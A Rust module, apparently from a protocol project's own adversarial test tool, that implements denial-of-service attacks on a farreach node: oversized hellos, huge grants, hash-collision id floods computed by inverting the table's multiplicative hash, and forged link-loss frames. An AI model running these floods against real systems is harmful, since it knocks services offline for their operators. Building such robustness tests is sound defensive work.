//! Frames that cost a victim much more than the attacker.

use std::time::{Duration, Instant};

use anyhow::Result;
use farreach_proto::counter::LinkId;
use farreach_proto::ids::GrantId;
use farreach_proto::wire::{Frame, LinkOffer};

use super::{AttackArgs, sleep_until};
use crate::insider::{Poster, open_rail};
use crate::protocol::{Speaker, encoded, grant, rails_of};
use crate::roles::Attacked;

/// The rails of a long hello: as many as fit into a frame.
const RAILS: u32 = 15_500;

/// The keys of a long grant: as many as fit into a frame.
const KEYS: usize = 60_000;

/// Frames that are sent at once.
const BURST: usize = 500;

/// Sends hellos with thousands of rails. None of them is one of the victim's.
pub(super) fn hello_rails(args: &AttackArgs) -> Result<Attacked> {
    let letter = |number: u32| char::from(b'a' + (number % 26) as u8);
    let name = |number: u32| [number, number / 26, number / 676].map(letter).iter().collect();
    let rails: Vec<String> = (0..RAILS).map(name).collect();
    let (mut attacked, end, mut kept) = (Attacked::default(), args.end(), Vec::new());
    for _ in 0..args.count {
        match Speaker::greet(args.address, "attacker", &rails) {
            Ok(speaker) => kept.push(speaker),
            Err(_) => attacked.count("refused", 1),
        }
    }
    attacked.count("hellos", kept.len() as u64);
    sleep_until(end);
    let closed = kept.iter_mut().map(Speaker::is_closed).filter(|it| *it).count();
    attacked.did = format!("{} hellos with {RAILS} rails, {closed} connections closed", kept.len());
    Ok(attacked)
}

/// Sends grants with many keys, all empty.
pub(super) fn grant_keys(args: &AttackArgs) -> Result<Attacked> {
    let frames = (0..args.count).map(|id| grant(GrantId::from_raw(id + 1), 1 << 20, vec![None; KEYS]));
    flood(args, frames, 1, &format!("grants of {KEYS} keys"))
}

/// Sends grants whose ids fall into one place of a table that hashes by multiplication.
pub(super) fn grant_ids(args: &AttackArgs) -> Result<Attacked> {
    let frames =
        (1..=args.count).map(|number| grant(GrantId::from_raw(colliding(number)), 1 << 20, Vec::new()));
    flood(args, frames, BURST, "grants with colliding ids")
}

/// The factor of the hash, and the number that undoes it.
const SPREAD: u64 = 0x9E37_79B9_7F4A_7C15;
const UNSPREAD: u64 = inverse(SPREAD);

/// Returns the inverse of an odd number modulo 2^64. Each step doubles the correct bits.
const fn inverse(number: u64) -> u64 {
    let (mut inverse, mut step) = (number, 0);
    while step < 6 {
        inverse = inverse.wrapping_mul(2_u64.wrapping_sub(number.wrapping_mul(inverse)));
        step += 1;
    }
    inverse
}

/// Returns a number whose product with [`SPREAD`], rotated by 26 bits, has zeros in the lowest 22
/// and the highest 7 bits, which are those that a hash table uses.
fn colliding(number: u64) -> u64 {
    let hash = number << 22 & ((1 << 57) - 1);
    hash.rotate_right(26).wrapping_mul(UNSPREAD)
}

/// Greets, sends frames, and stays until the end.
fn flood(
    args: &AttackArgs,
    frames: impl Iterator<Item = Frame>,
    burst: usize,
    what: &str,
) -> Result<Attacked> {
    // Before the hello: the victim would take the time for silence.
    let mut bursts: Vec<(Vec<u8>, u64)> = Vec::new();
    for (number, frame) in frames.enumerate() {
        if number % burst == 0 {
            bursts.push((Vec::new(), 0));
        }
        if let Some((bytes, count)) = bursts.last_mut() {
            bytes.extend(encoded([&frame])?);
            *count += 1;
        }
    }
    let (mut attacked, end) = (Attacked::default(), args.end());
    let rails = rails_of(args.address)?;
    let mut speaker = Speaker::greet(args.address, "attacker", &rails)?;
    let mut sent = 0;
    for (bytes, count) in &bursts {
        if speaker.send_bytes(bytes).is_err() {
            break;
        }
        sent += count;
        // The answers fill the victim's socket, if nobody reads them.
        if speaker.is_closed() {
            break;
        }
    }
    attacked.count("sent", sent);
    let mut is_closed = speaker.is_closed();
    while Instant::now() < end && !is_closed {
        is_closed = speaker.is_closed() || speaker.ping_if_due().is_err();
        std::thread::sleep(Duration::from_millis(50));
    }
    let outcome = if is_closed { "; the victim has closed the connection" } else { "" };
    attacked.did = format!("{sent} of {} {what}{outcome}", args.count);
    Ok(attacked)
}

/// Offers links and reports their loss at once, ten times a second, each time with bytes that may
/// still be in flight.
pub(super) fn link_lost(args: &AttackArgs) -> Result<Attacked> {
    const PAUSE: Duration = Duration::from_millis(100);
    const LINKS_PER_PEER: u64 = 3;
    let (mut attacked, end) = (Attacked::default(), args.end());
    let rails = rails_of(args.address)?;
    let (mut poster, mut address) = Poster::open(open_rail(&args.rail)?)?;
    let (mut lost, mut refused) = (0, 0);
    while Instant::now() < end {
        let Ok(mut speaker) = Speaker::greet(args.address, "attacker", &rails) else {
            refused += 1;
            std::thread::sleep(PAUSE);
            continue;
        };
        for link in (1..=LINKS_PER_PEER).map(LinkId) {
            let offer = Frame::Link(LinkOffer { link, from: 0, to: 0, address: address.clone() });
            let end = Frame::LinkLost { link, is_quiet: false, reason: "forged".to_owned() };
            if speaker.send(&offer).and_then(|()| speaker.send(&end)).is_err() {
                refused += 1;
                break;
            }
            lost += 1;
            poster.poll();
            std::thread::sleep(PAUSE);
        }
        address = poster.open_link()?;
    }
    attacked.count("lost", lost);
    attacked.did = format!("{lost} links offered and reported lost, {refused} times refused");
    Ok(attacked)
}

/// Greets with thousands of rails of the victim's kind, and offers a link for each.
pub(super) fn links(args: &AttackArgs) -> Result<Attacked> {
    const RAILS: usize = 2000;
    let (mut attacked, end, mut kept) = (Attacked::default(), args.end(), Vec::new());
    let rails = rails_of(args.address)?;
    let (poster, address) = Poster::open(open_rail(&args.rail)?)?;
    let offer = |number: u16| {
        Frame::Link(LinkOffer { link: LinkId(number.into()), from: number, to: 0, address: address.clone() })
    };
    let offers = encoded(&(0..RAILS as u16).map(offer).collect::<Vec<_>>())?;
    for _ in 0..args.count {
        let speaker = Speaker::greet(args.address, "attacker", &vec![rails[0].clone(); RAILS]);
        let Ok(mut speaker) = speaker else { continue };
        attacked.count("offered", u64::from(speaker.send_bytes(&offers).is_ok()) * RAILS as u64);
        kept.push(speaker);
    }
    while Instant::now() < end {
        kept.retain_mut(|speaker| !speaker.is_closed() && speaker.ping_if_due().is_ok());
        std::thread::sleep(Duration::from_millis(50));
    }
    drop(poster);
    attacked.did = format!("{} peers with {RAILS} links each, {} are connected", args.count, kept.len());
    Ok(attacked)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_ids_collide() {
        let hash = |number: u64| number.wrapping_mul(SPREAD).rotate_left(26);
        let hashes: Vec<u64> = (1..1000).map(|number| hash(colliding(number))).collect();
        assert!(hashes.iter().all(|hash| hash & ((1 << 22) - 1) == 0 && hash >> 57 == 0));
        let mut ids: Vec<u64> = (1..1000).map(colliding).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), 999);
    }
}
